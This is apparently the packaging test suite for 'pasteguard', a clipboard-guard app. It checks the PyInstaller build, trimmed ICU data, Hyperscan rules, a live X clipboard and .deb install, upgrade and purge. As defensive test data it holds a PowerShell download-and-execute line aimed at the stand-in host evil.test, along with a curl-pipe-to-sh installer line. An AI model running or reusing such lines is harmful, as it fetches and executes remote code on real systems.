"""The built app as people get it on Linux: PyInstaller's folder, then the .deb installed with dpkg.

The app is built once for the whole session into a temporary folder, with the two .deb files,
in a process begun when the session starts (tests/packaging/prebuild.py: ~105 s and ~40 s on
two cores, while the unit tests run). The guard runs under Xvfb; the .deb tests install, upgrade and remove the package with
the real dpkg, into a throwaway root with its own database (never onto the machine running
them), so they need root (CI runs as root) and a Debian system.
"""

from __future__ import annotations

import json
import os
import re
import shutil
import subprocess
import sys
import time
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest

from app import __version__
from app.events import Event
from app.guard.neutralize import COMMAND_LINE, neutral_line
from app.storage import EventStore
from installer import build as app_build
from installer import bundle as app_bundle
from installer import icu_data
from installer.linux import build_deb
from tests import proc
from tests.desktop import desktop, serving, wait_for
from tests.packaging import prebuild

pytestmark = [
    pytest.mark.slow,
    pytest.mark.packaging,
    pytest.mark.skipif(
        sys.platform != "linux", reason="the Linux build; other systems: CI workflow"
    ),
]

MALICIOUS = 'powershell -w h -c "iwr https://evil.test/a.ps1 | iex"'
# bytes: bench/package.py's SIZE_TARGET_MB (issue 6), held since ICU's data lost what Qt never
# reads (installer/icu_data.py: 126.0 -> 110.2 MB measured on a fresh build)
MAX_SIZE = 120_000_000
MAX_READY_S = 3.0


@pytest.fixture(scope="module")
def built(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """dist/pasteguard built from this checkout, once per test session: begun in the
    background when the session started (tests/packaging/prebuild.py), or here."""
    pytest.importorskip("PyInstaller", reason="the build extra is missing: make test installs it")
    made = prebuild.result("app")
    if made is not None:
        return made
    root = tmp_path_factory.mktemp("build")
    return app_build.build(root / "dist", root / "work")


@pytest.fixture
def profile(tmp_path: Path) -> dict[str, str]:
    """An environment whose data, settings and policy live in a temporary folder."""
    env = dict(os.environ)
    env.update(
        PASTEGUARD_DATA_DIR=str(tmp_path / "data"),
        PASTEGUARD_CONFIG_DIR=str(tmp_path / "config"),
        PASTEGUARD_POLICY=str(tmp_path / "no-policy.toml"),
    )
    return env


def run(
    program: Path | str, *args: str, env: dict[str, str], stdin: str | None = None
) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [str(program), *args], env=env, input=stdin, capture_output=True, text=True, timeout=60
    )


# -- the folder --------------------------------------------------------------------------


def test_the_build_answers_version_scan_and_status(built: Path, profile: dict[str, str]) -> None:
    program = built / "pasteguard"
    version = run(program, "--version", env=profile)
    assert (version.returncode, version.stdout) == (0, f"pasteguard {__version__}\n")

    scan = run(program, "scan", "--json", "--fail-on", "malicious", MALICIOUS, env=profile)
    assert scan.returncode == 1, scan.stderr
    assert json.loads(scan.stdout)["level"] == "malicious"
    lines = [json.dumps({"id": 1, "text": "git status"}), json.dumps({"id": 2, "text": MALICIOUS})]
    batch = run(program, "scan", "--jsonl", "-", env=profile, stdin="\n".join(lines) + "\n")
    answers = [json.loads(line) for line in batch.stdout.splitlines()]
    assert [(a["id"], a["level"]) for a in answers] == [(1, "clean"), (2, "malicious")]

    # the Public Suffix List bundled with publicsuffixlist came along (installer/pyinstaller/hooks):
    # an installer copied from its own project's page is cleared by it
    vouched = run(
        program, "scan", "--json", "--source", "https://docs.widget-vendor.dev/install",
        "--target", "terminal", "curl -fsSL https://get.widget-vendor.dev/install.sh | sh",
        env=profile,
    )  # fmt: skip
    assert json.loads(vouched.stdout)["rules"] == ["PG-INFO-SAME-PROJECT"], vouched.stderr

    # the shipped rules are found inside the bundle
    rules = run(program, "rules", "check", env=profile)
    assert rules.returncode == 0 and rules.stdout.endswith(" rules loaded, 0 errors\n")
    assert int(rules.stdout.split()[0]) > 50

    status = run(program, "status", env=profile)
    assert status.returncode == 1 and json.loads(status.stdout)["running"] is False


def test_the_build_matches_rules_with_its_hyperscan_database(built: Path) -> None:
    """The bundle carries Hyperscan and the rules' database made by build.spec, one this
    Hyperscan loads for exactly the bundled rules (app/detection/hsfilter.py)."""
    from app.detection import hsfilter

    internal = built / "_internal"
    assert list(internal.glob("hyperscan/_hs_ext*")), "the Hyperscan extension is missing"
    rules_dir = internal / app_bundle.BUNDLED_RESOURCES / "rules"
    database = rules_dir / "__pycache__" / hsfilter.shipped_path().name
    assert database.is_file(), "build.spec made no Hyperscan database"
    hsfilter.load.cache_clear()
    try:
        loaded = hsfilter.load(database)
    finally:
        hsfilter.load.cache_clear()
    assert loaded is not None and len(loaded.patterns) > 800


def test_the_build_is_one_folder_within_its_size_target(built: Path) -> None:
    resources = built / "_internal" / app_bundle.BUNDLED_RESOURCES
    assert (resources / "rules").is_dir()
    assert (resources / "icons" / "app.png").is_file()
    size = app_build.folder_size(built)
    assert size <= MAX_SIZE, f"{size / 1e6:.1f} MB"
    # no Qt part the guard never loads slipped in
    names = {p.name for p in built.rglob("*")}
    assert not {n for n in names if "Qml" in n or "Quick" in n or "WebEngine" in n or "gtk" in n}


# -- ICU's data, trimmed by the build (installer/icu_data.py) -------------------------------


def _icu_libraries(folder: Path) -> list[Path]:
    """ICU's three libraries and Qt Core in `folder` (PySide6/Qt/lib, the wheel's or the build's)."""
    names = ("libicudata.so.*", "libicuuc.so.*", "libicui18n.so.*", "libQt6Core.so.6")
    found = [p for name in names for p in folder.glob(name) if not p.is_symlink()]
    assert len(found) == len(names), found
    return found


def _wheel_qt_lib() -> Path:
    import PySide6

    return Path(PySide6.__file__).parent / "Qt" / "lib"


def _icu_answers(preload: list[Path]) -> list[str]:
    """What Qt answers through ICU (tests/packaging/icu_probe.py), with `preload`ed libraries."""
    env = dict(os.environ, LD_PRELOAD=" ".join(str(p) for p in preload))
    result = subprocess.run(
        [sys.executable, "-m", "tests.packaging.icu_probe"],
        cwd=Path(__file__).resolve().parents[2], env=env, capture_output=True, text=True,
        timeout=120,
    )  # fmt: skip
    assert result.returncode == 0, result.stderr
    return result.stdout.splitlines()


def test_the_build_leaves_out_only_icu_data_qt_never_reads(built: Path) -> None:
    ours = _icu_libraries(built / "_internal" / "PySide6" / "Qt" / "lib")[0]
    theirs = _icu_libraries(_wheel_qt_lib())[0]
    built_items = icu_data.read_common(icu_data.read_library(ours.read_bytes()).data).items
    wheel_items = icu_data.read_common(icu_data.read_library(theirs.read_bytes()).data).items
    left_out = set(wheel_items) - set(built_items)
    assert left_out and all(icu_data.unused(name.split("/", 1)[1]) for name in left_out)
    assert all(wheel_items.get(name) == item for name, item in built_items.items())
    assert ours.stat().st_size < theirs.stat().st_size - 15_000_000


def test_qt_answers_the_same_with_the_builds_icu_data(built: Path) -> None:
    """Case mapping, collation, converters and zone names for 13 locales, all 600-odd zones
    and every converter: the build's ICU and Qt Core give the wheel's answers, line for line."""
    ours = _icu_libraries(built / "_internal" / "PySide6" / "Qt" / "lib")
    wheel = _icu_answers([])
    answers = _icu_answers(ours)
    assert str(ours[0]) in answers[0] and str(ours[-1]) in answers[0], answers[0]
    assert str(built) not in wheel[0], wheel[0]
    differing = [(a, b) for a, b in zip(wheel[1:], answers[1:], strict=True) if a != b]
    assert not differing, differing[:5]
    # ICU's answers, not empty ones both sides share
    text = "\n".join(answers)
    assert "de zone Europe/Berlin Mitteleuropäische Normalzeit|" in text
    assert "ja zone Asia/Tokyo 日本標準時|" in text
    assert "tr case İSTANBUL İI Iİ" in text and "de case ISTANBUL İI II SS" in text
    zh_order = next(line for line in answers if line.startswith("zh collation")).split()
    de_order = next(line for line in answers if line.startswith("de collation")).split()
    assert zh_order.index("北京") < zh_order.index("上海")  # pinyin: běi before shàng
    assert de_order.index("Äpfel") < de_order.index("Ärger") < de_order.index("cadde")
    converters = {line.split()[1]: line for line in answers if line.startswith("converter ")}
    assert len(converters) > 200
    assert "東京 日本語" in converters["Shift_JIS"] and "Привет" in converters["KOI8-R"]
    assert "中文" in converters["GBK"] and "العربية" in converters["windows-1256"]


def test_the_build_guards_the_clipboard_on_a_real_x_desktop(built: Path, tmp_path: Path) -> None:
    program = str(built / "pasteguard")
    data = tmp_path / "data"
    log_path = tmp_path / "guard.log"
    with desktop() as d, log_path.open("wb") as log:
        d.env["PASTEGUARD_CONFIG_DIR"] = str(tmp_path / "config")
        d.env["PASTEGUARD_POLICY"] = str(tmp_path / "no-policy.toml")
        started = time.monotonic()
        d.start(program, "run", "--no-tray", "--data-dir", str(data), stdout=log, stderr=log)
        try:
            # asked from this process: polling the built `status` itself (a frozen start-up
            # each time) took the CPU the starting guard needed on a loaded machine, and its
            # own start-up was counted as the guard's
            wait_for(lambda: serving(data), timeout=20, step=0.05)
        except TimeoutError:
            pytest.fail("the built guard did not start:\n" + log_path.read_text(errors="replace"))
        ready_s = time.monotonic() - started
        status = json.loads(d.run(program, "status", "--data-dir", str(data)).stdout)
        assert status["backend"] == "xorg" and "keyboard" not in status["degraded"]
        # what start-up costs (load cannot inflate it), and the wait, stretched only by load
        assert proc.cpu_seconds(status["pid"]) < MAX_READY_S, status
        limit = proc.wall_limit(MAX_READY_S)
        assert status["ready_ms"] < limit * 1000 and ready_s < limit, (status, ready_s, limit)

        d.set_clipboard(MALICIOUS)
        wait_for(
            lambda: d.clipboard() == neutral_line("command", COMMAND_LINE), timeout=5, step=0.01
        )
        # read in full by the analysis process, which the built executable starts as itself
        analysis = json.loads(d.run(program, "status", "--data-dir", str(data)).stdout)["analysis"]
        assert analysis["state"] == "ready" and analysis["readings"] >= 1, analysis
        assert analysis["failures"] == 0 and analysis["patterns_only"] == 0, analysis
        d.stop()  # SIGTERM: the guard flushes its log before the X server goes
    export = run(
        program, "export", "--format", "jsonl", "--data-dir", str(data), env=dict(os.environ)
    )
    assert "clipboard_neutralized" in [
        json.loads(line)["kind"] for line in export.stdout.splitlines()
    ]


# -- the Debian package ------------------------------------------------------------------
#
# Installed, upgraded and purged inside a throwaway root, never onto the machine running the
# tests: `dpkg --root` with a fresh dpkg database in a temporary folder. The maintainer scripts
# run without chroot (--force-script-chrootless) and honour $DPKG_ROOT; the database knows the
# machine's versions of the packages the .deb depends on (their status entries are copied, read
# only), so the Depends field is checked for real.

NAME = "pasteguard"
HOST_PATHS = (
    "/opt/pasteguard",
    "/usr/bin/pasteguard",
    "/etc/pasteguard",
    "/etc/xdg/autostart/pasteguard.desktop",
    "/usr/share/applications/pasteguard.desktop",
    "/usr/share/applications/mimeinfo.cache",  # what postinst's cache updates would rewrite
    "/usr/share/icons/hicolor/icon-theme.cache",
)


@dataclass
class Root:
    """A folder dpkg installs into, with its own database."""

    path: Path

    def __truediv__(self, absolute: str) -> Path:
        return self.path / absolute.lstrip("/")

    @property
    def admindir(self) -> Path:
        return self / "/var/lib/dpkg"

    def dpkg(self, *args: str) -> subprocess.CompletedProcess[str]:
        env = dict(os.environ, DEBIAN_FRONTEND="noninteractive")
        return subprocess.run(
            ["dpkg", f"--root={self.path}", "--force-script-chrootless", *args],
            env=env,
            capture_output=True,
            text=True,
            timeout=300,
            stdin=subprocess.DEVNULL,
        )

    def installed_version(self) -> str | None:
        result = subprocess.run(
            ["dpkg-query", f"--admindir={self.admindir}", "-W", "-f", "${Status} ${Version}", NAME],
            capture_output=True,
            text=True,
        )
        words = result.stdout.split()
        return words[-1] if result.returncode == 0 and "installed" in words[:3] else None


def throwaway_root(folder: Path, package: Path) -> Root:
    """An empty root whose dpkg database holds only what `package` depends on."""
    root = Root(folder)
    for sub in ("info", "updates", "triggers"):
        (root.admindir / sub).mkdir(parents=True)
    depends = subprocess.run(
        ["dpkg-deb", "--field", str(package), "Depends"], capture_output=True, text=True
    ).stdout
    names = {re.split(r"[\s(:]", alt.strip())[0] for alt in re.split(r"[,|]", depends)} - {""}
    stanzas = []
    for name in sorted(names):
        found = subprocess.run(["dpkg-query", "--status", name], capture_output=True, text=True)
        assert found.returncode == 0, f"{name}, which the .deb depends on, is not installed here"
        fields = dict(
            line.split(": ", 1) for line in found.stdout.splitlines() if ": " in line[:40]
        )
        stanzas.append(found.stdout.strip() + "\n")
        # an empty file list: dpkg then knows the package owns no file in this root
        same = fields.get("Multi-Arch") == "same"
        list_name = f"{name}:{fields['Architecture']}" if same else name
        (root.admindir / "info" / f"{list_name}.list").write_text("")
    (root.admindir / "status").write_text("\n".join(stanzas))
    return root


def _host_state() -> dict[str, tuple[int, int] | None]:
    def state(path: str) -> tuple[int, int] | None:
        try:
            info = os.lstat(path)
        except FileNotFoundError:
            return None
        return info.st_mtime_ns, info.st_size

    return {path: state(path) for path in HOST_PATHS}


@pytest.fixture(scope="module")
def deb(built: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Path, Root]]:
    """The .deb, installed into a throwaway root; the machine itself must stay as it was."""
    if shutil.which("dpkg-deb") is None:
        pytest.skip("not a Debian system")
    if os.geteuid() != 0:
        pytest.skip("dpkg installs as root, even into a folder (CI runs as root)")
    package = prebuild.result("deb") or build_deb.build(built, tmp_path_factory.mktemp("deb"))
    root = throwaway_root(tmp_path_factory.mktemp("root"), package)
    host = _host_state()
    result = root.dpkg("-i", str(package))
    assert result.returncode == 0, result.stdout + result.stderr
    yield package, root
    assert _host_state() == host, "the package tests changed the machine they run on"


def test_the_package_installs_the_app_entries_and_an_example_policy(
    deb: tuple[Path, Root], profile: dict[str, str]
) -> None:
    _, root = deb
    program = str(root / "/opt/pasteguard/pasteguard")
    assert root.installed_version() == build_deb.deb_version()
    version = run(program, "--version", env=profile)
    assert version.stdout == f"pasteguard {__version__}\n"
    scan = run(program, "scan", "--json", MALICIOUS, env=profile)
    assert json.loads(scan.stdout)["level"] == "malicious"
    assert os.readlink(root / "/usr/bin/pasteguard") == "/opt/pasteguard/pasteguard"

    assert (root / "/usr/share/applications/pasteguard.desktop").is_file()
    autostart = root / "/etc/xdg/autostart/pasteguard.desktop"
    assert "Exec=/usr/bin/pasteguard" in autostart.read_text()
    assert (root / "/usr/share/icons/hicolor/256x256/apps/pasteguard.png").is_file()
    conffiles = root.dpkg("--status", "pasteguard").stdout.split("Conffiles:")[1]
    assert (
        "/etc/pasteguard/policy.toml" in conffiles
        and "/etc/xdg/autostart/pasteguard.desktop" in conffiles
    )

    # every user starts it at login; one person may turn that off for themselves, which the
    # example policy allows (an invalid policy would forbid it: it never weakens protection)
    person = {k: v for k, v in profile.items() if not k.startswith(("PASTEGUARD_POLICY", "XDG_"))}
    person["HOME"] = str(Path(profile["PASTEGUARD_DATA_DIR"]).parent / "home")
    person["XDG_CONFIG_DIRS"] = str(root / "/etc/xdg")
    person["PASTEGUARD_POLICY"] = str(root / "/etc/pasteguard/policy.toml")
    state = run(program, "autostart", "status", "--json", env=person)
    assert state.returncode == 0 and json.loads(state.stdout)["system_entry"] is True
    assert run(program, "autostart", "disable", env=person).returncode == 0
    assert run(program, "autostart", "status", env=person).returncode == 1
    assert "Hidden=true" in Path(person["HOME"], ".config/autostart/pasteguard.desktop").read_text()
    # only root can change what the package installed
    for path in (
        "/etc/pasteguard/policy.toml",
        "/opt/pasteguard/pasteguard",
        "/opt/pasteguard/_internal",
    ):
        info = (root / path).stat()
        assert info.st_uid == 0 and not info.st_mode & 0o022, path


def test_an_upgrade_keeps_events_settings_and_the_administrators_policy(
    deb: tuple[Path, Root], built: Path, tmp_path: Path, profile: dict[str, str]
) -> None:
    _, root = deb
    program = str(root / "/opt/pasteguard/pasteguard")
    data, config = Path(profile["PASTEGUARD_DATA_DIR"]), Path(profile["PASTEGUARD_CONFIG_DIR"])
    store = EventStore.open(data)  # a store written by this version
    for i in range(3):
        store.append(Event(kind="clipboard_flagged", level="malicious", summary=f"lure {i}"))
    store.flush()
    store.close()
    config.mkdir(parents=True)
    (config / "settings.toml").write_text('version = 1\nmode = "warn"\n')
    policy = root / "/etc/pasteguard/policy.toml"
    policy.write_text(policy.read_text() + "\nallow_quit = false\n")  # the administrator's edit

    version = build_deb.deb_version() + prebuild.UPGRADE_SUFFIX
    newer = prebuild.result("newer") or build_deb.build(
        built, tmp_path / "newer", compression="gzip", version=version
    )
    result = root.dpkg("-i", str(newer))
    assert result.returncode == 0, result.stdout + result.stderr
    assert root.installed_version() == version

    assert "allow_quit = false" in policy.read_text()  # a changed conffile is kept
    assert (config / "settings.toml").read_text() == 'version = 1\nmode = "warn"\n'
    export = run(program, "export", "--format", "jsonl", env=profile)
    assert export.returncode == 0, export.stderr
    events = [json.loads(line) for line in export.stdout.splitlines()]
    assert sorted((e["summary"], e["level"]) for e in events) == [
        (f"lure {i}", "malicious") for i in range(3)
    ]


def test_removal_keeps_the_policy_and_user_data_until_purge(
    deb: tuple[Path, Root], profile: dict[str, str]
) -> None:
    _, root = deb
    data = Path(profile["PASTEGUARD_DATA_DIR"])
    data.mkdir(parents=True, exist_ok=True)
    (data / "keep.txt").write_text("a person's file")
    result = root.dpkg("-r", "pasteguard")
    assert result.returncode == 0, result.stdout + result.stderr
    assert not (root / "/usr/bin/pasteguard").exists()
    assert not (root / "/opt/pasteguard").exists()
    assert (root / "/etc/pasteguard/policy.toml").is_file()  # a conffile stays until purge
    assert "deinstall ok config-files" in root.dpkg("--status", "pasteguard").stdout

    result = root.dpkg("--purge", "pasteguard")
    assert result.returncode == 0, result.stdout + result.stderr
    assert not (root / "/etc/pasteguard").exists()  # postrm removed the emptied folder
    assert not (root / "/etc/xdg/autostart/pasteguard.desktop").exists()
    assert (data / "keep.txt").read_text() == "a person's file"
